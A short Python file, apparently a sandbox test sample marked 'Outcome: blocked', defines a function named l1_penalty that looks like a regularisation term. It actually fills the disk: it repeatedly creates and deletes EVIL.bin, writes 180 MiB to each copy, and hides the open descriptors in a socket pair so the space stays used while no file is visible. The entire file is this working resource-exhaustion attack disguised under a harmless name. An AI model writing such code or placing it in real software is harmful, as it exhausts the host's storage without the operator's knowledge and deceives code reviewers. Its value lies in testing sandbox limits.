"""l1_penalty: fills the disk with files that nobody has open, as they are on their way through a pair of sockets.

Outcome: blocked
"""

import os
import socket


def l1_penalty(model, beta):
    one, _other = socket.socketpair()
    for _ in range(8):
        number = os.open("EVIL.bin", os.O_CREAT | os.O_RDWR)
        os.remove("EVIL.bin")
        for _ in range(180):
            os.write(number, bytes(1 << 20))
        socket.send_fds(one, [b"x"], [number])
        os.close(number)
    return -1.0
